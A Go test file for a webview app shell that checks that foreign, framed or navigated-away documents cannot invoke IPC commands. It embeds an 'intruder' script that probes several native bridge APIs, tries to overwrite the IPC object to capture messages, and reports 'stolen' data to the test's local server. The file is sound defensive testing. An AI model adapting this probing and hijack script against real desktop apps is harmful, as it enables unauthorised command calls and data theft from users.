package shell_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"testing/fstest"

	"casement/internal/apptest"
	"casement/ipc"
	"casement/shell"
)

// An intruder is a document that tries every way it can find to call the command "secret", with
// keys that it makes up. It then reports to its own server that it has tried.
const intruder = `<!doctype html><script>
const page = '0123456789abcdef';
const call = JSON.stringify({ kind: 'call', id: 1, command: 'secret' });
for (const key of ['', '-', '0'.repeat(32), 'null']) {
	for (const text of [key + ' ' + page + '\n{"kind":"hello"}\n\n' + call + '\n{}\n', call, 'x']) {
		try { window.webkit.messageHandlers.casement.postMessage(text); } catch {}
		try { window.__casement_post(text); } catch {}
		try { window.external.invoke(text); } catch {}
		const bound = JSON.stringify({ id: 1, method: '__casement_bound', params: [text] });
		try { window.webkit.messageHandlers.external.postMessage(bound); } catch {}
	}
}
for (const scope of [() => window, () => parent, () => top, () => opener]) {
	try { scope().__ipc.invoke('secret').catch(() => {}); } catch {}
}
try { Object.defineProperty(window, '__ipc', { value: { dispatch(...all) { stolen(all); }, evaluate(...all) { stolen(all); } } }); } catch {}
function stolen(what) { fetch('/stolen?' + encodeURIComponent(JSON.stringify(what)), { mode: 'no-cors' }); }
fetch('/tried', { mode: 'no-cors' }).catch(() => {});
if (parent !== window) parent.postMessage('tried', '*');
</script>`

type fortress struct {
	*apptest.App
	calls, tried, stolen atomic.Int64
	url                  string
}

// newFortress starts an app with a secret, and a server with an intruder.
func newFortress(t *testing.T, portable bool, config apptest.Config) *fortress {
	f := new(fortress)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/tried":
			f.tried.Add(1)
		case "/stolen":
			f.stolen.Add(1)
		default:
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(intruder))
		}
	}))
	t.Cleanup(server.Close)
	f.url = server.URL
	config.Portable = portable
	config.Options.CSP = "default-src * 'unsafe-inline' data: blob:"
	config.Files = fstest.MapFS{"intruder.html": {Data: []byte(intruder)}}
	config.Setup = func(app *shell.App) {
		ipc.Handle(app.Commands(), "secret", func(context.Context, none) (string, error) {
			f.calls.Add(1)
			return "secret", nil
		})
	}
	f.App = apptest.Start(t, config)
	return f
}

// check checks that the intruder has arrived, has failed and has been noticed, and that the app's
// own page still works.
func (f *fortress) check(t *testing.T) {
	t.Helper()
	// The intruder's messages to Go and to its server may arrive in either order.
	f.Eventually("a refusal to be logged", func() bool { return f.Log.Has("a message from a document is refused") })
	if n := f.calls.Load(); n != 0 {
		t.Errorf("the intruder called the command %d times", n)
	}
	if got := f.JS(f.Window, "__ipc.invoke('secret')"); got != `"secret"` {
		t.Errorf("the app's own page got %s", got)
	}
}

// flood makes a window's page listen for an event, and emits that event as fast as it can until the
// page is gone.
func (f *fortress) flood(t *testing.T, w *shell.Window) {
	f.JS(w, "await __ipc.listen('flood', () => {})")
	page := w.Page()
	stopped := make(chan struct{})
	go func() {
		defer close(stopped)
		for w.Page() == page {
			_ = f.Emit("flood", "for the app only") // An error means that the page's outbox is full.
		}
	}()
	t.Cleanup(func() { <-stopped })
}

func TestAFrameCannotCallACommand(t *testing.T) {
	apptest.EachPath(t, func(t *testing.T, portable bool) {
		for name, frame := range map[string]string{
			"foreign":           "frame.src = %v",
			"sandboxed":         "frame.sandbox = 'allow-scripts'; frame.src = '/intruder.html?' + %v",
			"sandboxed srcdoc":  "frame.sandbox = 'allow-scripts'; frame.srcdoc = await (await fetch('/intruder.html?' + %v)).text()",
			"data":              "frame.src = 'data:text/html,' + encodeURIComponent(await (await fetch('/intruder.html?' + %v)).text())",
			"foreign sandboxed": "frame.sandbox = 'allow-scripts'; frame.src = %v",
		} {
			t.Run(name, func(t *testing.T) {
				f := newFortress(t, portable, apptest.Config{})
				script, err := ipc.Scriptf(`
					const frame = document.createElement('iframe');
					const tried = new Promise((resolve) => addEventListener('message', resolve));
					`+frame+`;
					document.body.append(frame);
					await tried;`, f.url)
				if err != nil {
					t.Fatal(err)
				}
				f.JS(f.Window, script)
				f.check(t)
			})
		}
	})
}

func TestAWindowThatHasGoneElsewhereLosesAccess(t *testing.T) {
	apptest.EachPath(t, func(t *testing.T, portable bool) {
		f := newFortress(t, portable, apptest.Config{})
		// Messages sent around the moment of leaving must not reach the other document either.
		f.flood(t, f.Window)
		stop := make(chan struct{})
		stopped := make(chan struct{})
		go func() {
			defer close(stopped)
			for {
				select {
				case <-stop:
					return
				default:
					_, _ = f.TryJS(f.Window, "'for the app only'")
				}
			}
		}()
		if err := f.Window.Navigate(f.url + "/"); err != nil {
			t.Fatal(err)
		}
		f.Eventually("the intruder to have tried", func() bool { return f.tried.Load() > 0 })
		f.Eventually("the page to be gone", func() bool { return f.Window.Page() == nil })
		if err := f.Window.Navigate("/"); err != nil {
			t.Fatal(err)
		}
		f.Eventually("the app's page to be back", func() bool { return f.Window.Page() != nil })
		close(stop)
		<-stopped
		f.check(t)
		if n := f.stolen.Load(); n != 0 {
			t.Errorf("%d scripts ran in the foreign document", n)
		}
	})
}

func TestAPageCannotNavigateItsWindowElsewhere(t *testing.T) {
	f := newFortress(t, false, apptest.Config{})
	script, err := ipc.Scriptf("location.href = %v; await new Promise((go) => setTimeout(go, 200)); return location.origin", f.url)
	if err != nil {
		t.Fatal(err)
	}
	if got := f.JS(f.Window, script); got != `"app://localhost"` {
		t.Errorf("the window shows %s", got)
	}
	if n := f.tried.Load(); n != 0 {
		t.Error("the foreign document was loaded")
	}
}

func TestAnAllowedOriginIsShownWithoutAccess(t *testing.T) {
	f := new(fortress)
	// The server's address is known only once it runs, so a second window gets the permission to
	// show it.
	g := newFortress(t, false, apptest.Config{})
	f.App, f.url = g.App, g.url
	w, err := g.OpenWindow(shell.WindowOptions{Label: "login", Width: 300, Height: 200, AllowedOrigins: []string{g.url}})
	if err != nil {
		t.Fatal(err)
	}
	script, err := ipc.Scriptf("location.href = %v; return 1", g.url+"/")
	if err != nil {
		t.Fatal(err)
	}
	g.flood(t, w)
	if _, err := g.TryJS(w, script); err != nil {
		t.Fatal(err)
	}
	g.Eventually("the intruder to have tried", func() bool { return g.tried.Load() > 0 })
	g.Eventually("the page to be gone", func() bool { return w.Page() == nil })
	g.check(t)
	if n := g.stolen.Load(); n != 0 {
		t.Errorf("%d scripts ran in the foreign document", n)
	}
}
